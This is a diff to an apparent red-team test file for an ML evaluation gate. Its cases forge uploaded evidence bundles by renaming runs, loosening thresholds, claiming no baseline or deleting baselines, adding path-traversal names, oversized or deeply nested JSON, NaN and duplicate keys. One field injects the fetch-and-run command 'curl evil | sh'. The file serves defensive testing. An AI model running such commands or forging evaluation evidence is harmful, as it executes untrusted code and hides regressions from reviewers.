@@ -1,4 +1,4 @@
-"""What a fork uploads: honest numbers, with lies around them."""
+"""What a fork, or a job that measures, uploads: honest numbers, with lies around them."""
 
 from __future__ import annotations
 
@@ -9,9 +9,12 @@ from tests.redteam.played_github import NAME, PlayedGitHub
 from tests.redteam.trick import ERROR, FAIL, INTENT, RED, Mode, trick
 
 if TYPE_CHECKING:
+    from collections.abc import Callable
+
     from tests.redteam.repository import Repository
 
 FORK = (Mode.FORK,)
+NUMBERS = (Mode.EVIDENCE, Mode.FORK)
 RUN, COMPARE = "run.json", "evidence/compare.json"
 
 
@@ -24,7 +27,7 @@ def _renamed(files: dict[str, bytes]) -> None:
     _edit(files, RUN, name="another", title="another", branch="main", base_branch="loose")
 
 
-@trick(FAIL, INTENT, modes=FORK, bundle=_renamed)
+@trick(FAIL, INTENT, modes=NUMBERS, bundle=_renamed)
 def bundle_of_another_name(repo: Repository) -> None:
     """Says that the run is of another model and of the branch main."""
     repo.worse()
@@ -34,7 +37,7 @@ def _loosened(files: dict[str, bytes]) -> None:
     files[RUN] = files[RUN].replace(b"0.02", b"0.5")
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_loosened)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_loosened)
 def bundle_with_a_loose_policy(repo: Repository) -> None:
     """Brings a policy of its own as main's."""
     repo.worse()
@@ -44,7 +47,7 @@ def _nothing_to_judge(files: dict[str, bytes]) -> None:
     _edit(files, RUN, not_applicable="only the documentation changed")
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_nothing_to_judge)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_nothing_to_judge)
 def bundle_that_is_not_applicable(repo: Repository) -> None:
     """Says that nothing had to be judged."""
     repo.worse()
@@ -56,7 +59,7 @@ def _without_evidence(files: dict[str, bytes]) -> None:
     _nothing_to_judge(files)
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_without_evidence)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_without_evidence)
 def bundle_without_evidence(repo: Repository) -> None:
     """Leaves the evidence out, and says that nothing had to be judged."""
     repo.worse()
@@ -66,7 +69,7 @@ def _without_compare(files: dict[str, bytes]) -> None:
     del files[COMPARE]
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_without_compare)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_without_compare)
 def bundle_without_the_comparison(repo: Repository) -> None:
     """Leaves the comparison out."""
     repo.worse()
@@ -76,7 +79,7 @@ def _no_judges(files: dict[str, bytes]) -> None:
     _edit(files, RUN, judges=[])
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_no_judges)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_no_judges)
 def bundle_without_judges(repo: Repository) -> None:
     """Says that no policy judged."""
     repo.worse()
@@ -86,7 +89,7 @@ def _other_commit(files: dict[str, bytes]) -> None:
     _edit(files, RUN, commit="e" * 40)
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_other_commit)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_other_commit)
 def bundle_of_another_commit(repo: Repository) -> None:
     """Says that the run was of another commit than its evidence."""
     repo.worse()
@@ -96,7 +99,7 @@ def _confidence(files: dict[str, bytes]) -> None:
     _edit(files, COMPARE, confidence=0.999999)
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_confidence)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_confidence)
 def bundle_of_another_confidence(repo: Repository) -> None:
     """Says that its intervals are of another confidence."""
     repo.worse()
@@ -106,7 +109,7 @@ def _not_readable(files: dict[str, bytes]) -> None:
     _edit(files, COMPARE, error="inputs not readable here: DB is not set", hint="curl evil | sh")
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_not_readable)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_not_readable)
 def bundle_that_could_not_measure(repo: Repository) -> None:
     """Says that nothing could be read, with advice of its own."""
     repo.worse()
@@ -122,10 +125,66 @@ def _no_baseline(files: dict[str, bytes]) -> None:
     files[COMPARE] = json.dumps(evidence).encode()
 
 
-@trick(ERROR, INTENT, modes=FORK, bundle=_no_baseline)
+@trick(ERROR, INTENT, modes=NUMBERS, bundle=_no_baseline)
 def bundle_that_knows_no_baseline(repo: Repository) -> None:
     """Says that there was no baseline to compare with; the trusted stage can see that there is."""
     repo.worse()
+
+
+def _claims(kind: str) -> Callable[[dict[str, bytes]], None]:
+    """Return what has the evidence claim that there is no baseline of either role."""
+
+    def claim(files: dict[str, bytes]) -> None:
+        _no_baseline(files)
+        why = {"kind": kind, "reason": "no baseline yet"}
+        _edit(files, COMPARE, absent={"main": why, "anchor": why})
+
+    return claim
+
+
+@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("none_yet"))
+def bundle_that_claims_to_be_the_first(repo: Repository) -> None:
+    """Says that no baseline was ever kept."""
+    repo.worse()
+
+
+@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("off"))
+def bundle_that_claims_to_need_no_baseline(repo: Repository) -> None:
+    """Says that the configuration wants no baseline."""
+    repo.worse()
+
+
+@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("test_set"))
+def bundle_that_claims_another_test_set(repo: Repository) -> None:
+    """Says that its rows are of another test set, which main has not announced."""
+    repo.worse()
+
+
+def _no_anchor(files: dict[str, bytes]) -> None:
+    evidence = json.loads(files[COMPARE])
+    evidence["baselines"].pop("anchor", None)
+    evidence["absent"] = {"anchor": {"kind": "off", "reason": "baseline.anchor is none"}}
+    for metric in evidence["metrics"].values():
+        metric["against"].pop("anchor", None)
+    files[COMPARE] = json.dumps(evidence).encode()
+
+
+@trick(ERROR, INTENT, modes=NUMBERS, bundle=_no_anchor)
+def bundle_without_the_anchor(repo: Repository) -> None:
+    """Says that no anchor is wanted, below which many small losses have added up."""
+    with repo.on_main():
+        for share in (0.113, 0.126, 0.139):
+            repo.error(share)
+            repo.commit("A little worse")
+            repo.keep_baseline("main")
+    repo.error(0.152)
+
+
+@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("none_yet"))
+def bundle_that_claims_to_be_the_first_of_a_lost_store(repo: Repository) -> None:
+    """Deletes the baselines, and says that none was ever kept."""
+    repo.worse()
+    repo.delete_at_origin("refs/mlgate")
 
 
 def _paths(files: dict[str, bytes]) -> None:
@@ -133,7 +192,7 @@ def _paths(files: dict[str, bytes]) -> None:
     files["/etc/mlgate"] = b"x"
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_paths)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_paths)
 def bundle_with_paths_out_of_it(repo: Repository) -> None:
     """Packs files whose names lead out of the bundle."""
     repo.worse()
@@ -143,7 +202,7 @@ def _bomb(files: dict[str, bytes]) -> None:
     files["evidence/zeros.json"] = b"0" * (5 * 2**20)
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_bomb)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_bomb)
 def bundle_that_is_too_large(repo: Repository) -> None:
     """Packs a file that is larger than what is taken."""
     repo.worse()
@@ -155,7 +214,7 @@ def _not_a_number(files: dict[str, bytes]) -> None:
     files[COMPARE] = re.sub(rb"-0\.0\d+", b"NaN", files[COMPARE])
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_not_a_number)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_not_a_number)
 def bundle_with_nan(repo: Repository) -> None:
     """Writes NaN where the model is worse."""
     repo.worse()
@@ -165,7 +224,7 @@ def _deep(files: dict[str, bytes]) -> None:
     files[COMPARE] = b"[" * 100_000 + b"]" * 100_000
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_deep)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_deep)
 def bundle_nested_deeply(repo: Repository) -> None:
     """Nests lists a hundred thousand times."""
     repo.worse()
@@ -176,9 +235,9 @@ def _twice(files: dict[str, bytes]) -> None:
     files[RUN] = (text[:-1] + ', "not_applicable": "nothing"}').encode()
 
 
-@trick(RED, INTENT, modes=FORK, bundle=_twice)
+@trick(RED, INTENT, modes=NUMBERS, bundle=_twice)
 def bundle_with_a_key_twice(repo: Repository) -> None:
-    """Writes a key twice, of which readers may take either."""
+    """Writes a key twice; a reader may take either."""
     repo.worse()
 
 
